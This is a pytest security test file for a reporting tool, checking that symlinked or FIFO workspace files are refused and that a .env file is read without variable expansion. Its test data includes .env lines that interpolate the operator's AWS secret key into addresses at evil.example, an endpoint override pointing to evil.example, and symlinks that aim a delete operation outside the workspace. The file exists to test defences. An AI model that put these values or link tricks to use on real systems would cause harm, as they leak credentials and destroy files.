"""Classes 2, 3, 4 and 7 of the second trial: nothing outside the workspace is written, deleted or
read through it, and nothing in it holds a run.

- `prune` removes period folders only inside the workspace: a `reports`, `.boardpack/archive` or
  `.boardpack/dry-run` that links elsewhere is refused before anything is listed there;
- a linked `.boardpack`, audit store (or its journal), report folder, report file, dry-run folder or
  outbox folder is refused by name, and nothing is written through it; a dangling link is a clear
  error, not a traceback;
- a `.env` is read as written: `${VAR}` does not bring in the operator's environment, a `.env` that
  links outside is refused, and AWS settings that would send the operator's own credentials to
  another endpoint are left out;
- a FIFO (or any file that is not a regular file) named as a workspace file is refused at once.

The corpus checks every case the same way: the exit status and the words, no traceback, nothing
sent, nothing written or deleted beside the workspace, and no planted secret in any output.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from boardpack.environment import Environment
from tests.hostile.corpus import AS_OF, Case, append, problems_of, replace, run_case

SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYPLANTEDKEY"  # the operator's, in the real environment
OPERATOR = {"AWS_SECRET_ACCESS_KEY": SECRET, "AWS_ACCESS_KEY_ID": "AKIAOPERATOROWNKEY01"}
SEND = ("send", *AS_OF)


def link(name: str, target: str = "elsewhere", folder: bool = True, periods=("2020-01",)):
    """`name` in the workspace becomes a link to `target` beside it, which holds period folders
    with a file each (what a prune through the link would remove)."""

    def make(ws: Path) -> None:
        outside = ws.parent / target
        if folder:
            for period in periods:
                (outside / period).mkdir(parents=True, exist_ok=True)
                (outside / period / "keep.txt").write_text("not the workspace's")
        else:
            outside.parent.mkdir(parents=True, exist_ok=True)
            outside.write_text("not the workspace's")
        (ws / name).parent.mkdir(parents=True, exist_ok=True)
        os.symlink(outside, ws / name)

    return make


def refused(id, setup, *says, argv=SEND, toml=None, files=None, env=None) -> Case:
    return Case(id, "reach", argv, toml, files or {}, setup, 2, says, env=env or {})


RETAIN = append("[retention]\npdfs = 1\ndry_runs = 1\npreviews = 1\n")
PRUNE = ("prune",)
BCC = 'bcc = ["audit@example.com"]'
OUTBOX_TOML = replace(BCC, f'{BCC}\noutbox = "outbox"')
FROM_ENV = replace('from = "Small Co Reports <reports@example.com>"\n', "")
BCC_ENV = replace('bcc = ["audit@example.com"]\n', "")

PRUNE_CASES = [
    refused(
        "prune: reports is a link outside",
        link("reports"),
        "reports is a link to",
        "outside the workspace",
        argv=PRUNE,
        toml=RETAIN,
    ),
    refused(
        "prune: the archive is a link outside",
        link(".boardpack/archive"),
        "archive is a link to",
        argv=PRUNE,
        toml=RETAIN,
    ),
    refused(
        "prune: the dry runs are a link outside",
        link(".boardpack/dry-run"),
        "dry-run is a link to",
        argv=PRUNE,
        toml=RETAIN,
    ),
    refused(
        "prune: the state folder is a link outside",
        link(".boardpack"),
        ".boardpack is a link to",
        argv=PRUNE,
        toml=RETAIN,
    ),
]

LINK_CASES = [
    refused("the state folder is a link outside", link(".boardpack"), ".boardpack is a link to"),
    refused(
        "the audit store is a link outside",
        link(".boardpack/audit.sqlite", "other.sqlite", folder=False),
        "audit.sqlite is a link to",
    ),
    refused(
        "the audit store's journal is a link outside",
        link(".boardpack/audit.sqlite-wal", "other.sqlite-wal", folder=False),
        "audit.sqlite-wal is a link to",
    ),
    refused(
        "the state folder is a dangling link",
        lambda ws: os.symlink(ws / "nowhere", ws / ".boardpack"),
        ".boardpack is a link to",
        "which does not exist",
    ),
    refused(
        "the state folder is a dangling link outside",
        lambda ws: os.symlink(ws.parent / "nowhere", ws / ".boardpack"),
        "outside the workspace",
    ),
    refused(
        "the state folder is a file",
        lambda ws: (ws / ".boardpack").write_text("x"),
        ".boardpack is a file",
    ),
    refused(
        "built reports: the reports folder is a link outside",
        link("reports"),
        "reports is a link to",
        argv=("build", *AS_OF),
    ),
    refused(
        "built reports: the period's folder is a link outside",
        link("reports/2026-10"),
        "2026-10 is a link to",
        argv=("build", *AS_OF),
    ),
    refused(
        "built reports: a report's file is a link outside",
        link("reports/2026-10/cfo.html", "victim.html", folder=False),
        "cfo.html is a link to",
        argv=("build", *AS_OF),
    ),
    refused(
        "dry run: the dry-run folder is a link outside",
        link(".boardpack/dry-run"),
        "dry-run is a link to",
        argv=("send", "--dry-run", *AS_OF),
    ),
    refused(
        "dry run: the period's folder is a link outside",
        link(".boardpack/dry-run/2026-10", periods=()),
        "2026-10 is a link to",
        argv=("send", "--dry-run", *AS_OF),
    ),
    refused(
        "the outbox is a link outside",
        link("outbox"),
        "delivery.outbox",
        "outside the workspace",
        toml=OUTBOX_TOML,
    ),
    refused(
        "the outbox's period folder is a link outside",
        link("outbox/2026-10", periods=()),
        "2026-10 is a link to",
        toml=OUTBOX_TOML,
    ),
    refused(
        "the outbox's index is a link outside",
        link("outbox/index.jsonl", "index.jsonl", folder=False),
        "index.jsonl is a link to",
        toml=OUTBOX_TOML,
    ),
]

# The .env names the operator's secret; were it expanded, the secret would reach an address, an
# error message or a webhook's URL.
def literal(id: str, toml, dotenv: str) -> Case:
    """The .env's `${...}` is kept as written (a valid address, as it happens): the pack goes, and
    the operator's secret is in nothing it wrote or said."""
    return Case(id, "reach", SEND, toml, {".env": dotenv}, None, 0, ("sent",), True, env=OPERATOR)


DOTENV_CASES = [
    literal(
        "a From address interpolated from the operator's secret",
        FROM_ENV,
        "SES_FROM_ADDRESS=${AWS_SECRET_ACCESS_KEY}@evil.example\n",
    ),
    literal(
        "an audit copy address interpolated from the operator's key",
        BCC_ENV,
        "SES_BCC_ADDRESS=${AWS_ACCESS_KEY_ID}.${AWS_SECRET_ACCESS_KEY}@evil.example\n",
    ),
    refused(
        "a .env that links outside the workspace",
        link(".env", "operator.env", folder=False),
        ".env is a link to",
        env=OPERATOR,
    ),
    refused(
        "a .env that is a FIFO", lambda ws: os.mkfifo(ws / ".env"), ".env", "FIFO", env=OPERATOR
    ),
]
for case in DOTENV_CASES:
    object.__setattr__(case, "secrets", (SECRET, "AKIAOPERATOROWNKEY01"))


def fifo(name: str):
    def make(ws: Path) -> None:
        (ws / name).unlink(missing_ok=True)
        (ws / name).parent.mkdir(parents=True, exist_ok=True)
        os.mkfifo(ws / name)

    return make


FIFO_CASES = [
    refused("a note that is a FIFO", fifo("notes/co.md"), "notes/co.md", "FIFO"),
    refused("a ledger that is a FIFO", fifo("ledger/bank.csv"), "bank.csv", "FIFO"),
    refused("the channels file is a FIFO", fifo("marketing/channels.csv"), "channels.csv", "FIFO"),
    refused(
        "a rules file that is a FIFO",
        fifo("rules.csv"),
        "rules.csv",
        "FIFO",
        toml=append('[sources.rules]\npath = "rules.csv"\n'),
    ),
    refused(
        "a template that is a FIFO",
        fifo("templates/report.html.j2"),
        "report.html.j2",
        "FIFO",
        toml=append('[branding]\ntemplates = "templates"\n'),
    ),
    refused(
        "a logo that is a FIFO",
        fifo("logo.png"),
        "logo.png",
        "FIFO",
        toml=append('[branding]\nlogo = "logo.png"\n'),
    ),
    refused(
        "the workspace file is a FIFO",
        fifo("boardpack.toml"),
        "boardpack.toml",
        "FIFO",
    ),
    refused(
        "a budget that is a FIFO",
        fifo("budget.csv"),
        "budget.csv",
        "FIFO",
        toml=append('[sources.budget]\npath = "budget.csv"\n'),
    ),
    refused(
        "the recipients file is a FIFO",
        fifo("recipients.csv"),
        "recipients.csv",
        "FIFO",
        toml=append('[recipients]\nsource = "csv:recipients.csv"\n'),
    ),
    refused(
        "the fingerprint key is a FIFO",
        fifo(".boardpack/fingerprint.key"),
        "fingerprint.key",
        "FIFO",
        toml=replace(
            'domains = ["smallco.example.com"]',
            'domains = ["smallco.example.com"]\nrepos = ["no-repo-needed"]',
        ),
    ),
]

FIFO_CASES += [
    refused("the audit store is a FIFO", fifo(".boardpack/audit.sqlite"), "audit.sqlite", "FIFO"),
    refused(
        "the outbox's index is a FIFO",
        fifo("outbox/index.jsonl"),
        "index.jsonl",
        "FIFO",
        toml=OUTBOX_TOML,
    ),
    refused(
        "a report's file is a FIFO",
        fifo("reports/2026-10/cfo.html"),
        "cfo.html",
        "FIFO",
        argv=("build", *AS_OF),
    ),
]
CASES = PRUNE_CASES + LINK_CASES + DOTENV_CASES + FIFO_CASES


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.id)
def test_nothing_outside_the_workspace_is_reached_through_it(case, tmp_path):
    outcome = run_case(case, tmp_path)
    assert problems_of(case, outcome, tmp_path / "ws") == []


def test_prune_still_removes_what_is_inside(tmp_path):
    """The same prune, with real folders, removes the old periods and keeps the rest."""
    ws = tmp_path / "ws"

    def folders(ws: Path) -> None:
        for parts in (("reports", "2020-01"), (".boardpack", "archive", "2020-01")):
            ws.joinpath(*parts).mkdir(parents=True)
            ws.joinpath(*parts, "a.txt").write_text("old")
        ws.joinpath("reports", "2099-01").mkdir()  # within any window, whatever today is

    case = Case("prune inside", "reach", PRUNE, RETAIN, {}, folders, 0, ("reports/2020-01/",))
    outcome = run_case(case, tmp_path)
    assert problems_of(case, outcome, ws) == []
    assert not (ws / "reports" / "2020-01").exists()
    assert not (ws / ".boardpack" / "archive" / "2020-01").exists()
    assert (ws / "reports" / "2099-01").is_dir()


def test_a_dotenv_is_read_as_written(tmp_path, monkeypatch):
    """`${VAR}` stays as written; AWS settings that redirect calls apply only with the .env's own
    access key."""
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    (tmp_path / ".env").write_text(
        "SES_FROM_ADDRESS=${AWS_SECRET_ACCESS_KEY}@x.example\nAWS_ENDPOINT_URL=https://evil.example\n"
        "AWS_PROFILE=someone-else\nSES_REGION=eu-west-1\n"
    )
    env = Environment.load(tmp_path)
    assert env.from_address == "${AWS_SECRET_ACCESS_KEY}@x.example"
    assert env.get("AWS_REGION") == "eu-west-1"  # an ordinary setting still comes from .env
    assert env.get("AWS_ENDPOINT_URL") is None and env.get("AWS_PROFILE") is None
    (tmp_path / ".env").write_text(
        "AWS_ACCESS_KEY_ID=AKIAWORKSPACEOWN0001\nAWS_SECRET_ACCESS_KEY=its-own\n"
        "AWS_ENDPOINT_URL=http://127.0.0.1:5000\n"
    )
    monkeypatch.delenv("AWS_SECRET_ACCESS_KEY")
    assert Environment.load(tmp_path).get("AWS_ENDPOINT_URL") == "http://127.0.0.1:5000"
